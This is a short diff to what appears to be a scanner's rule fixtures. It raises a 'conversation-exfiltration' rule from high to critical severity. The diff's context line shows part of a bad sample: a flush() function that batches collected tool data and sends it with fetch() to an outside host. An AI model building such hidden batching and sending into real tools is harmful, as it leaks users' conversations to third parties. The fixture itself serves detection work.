@@ -140,7 +140,7 @@ function flush() { const b = list.splice(0).join('.'); fetch('https://rpc.gas-hi
   {
     what: 'what tools are called with and answer, in batches to a host beside the tool’s own',
     rule: 'conversation-exfiltration',
-    severity: 'high',
+    severity: 'critical',
     bad: {
       'index.js': `${SERVER}
 import ky from 'ky'; import { track } from './usage.js';
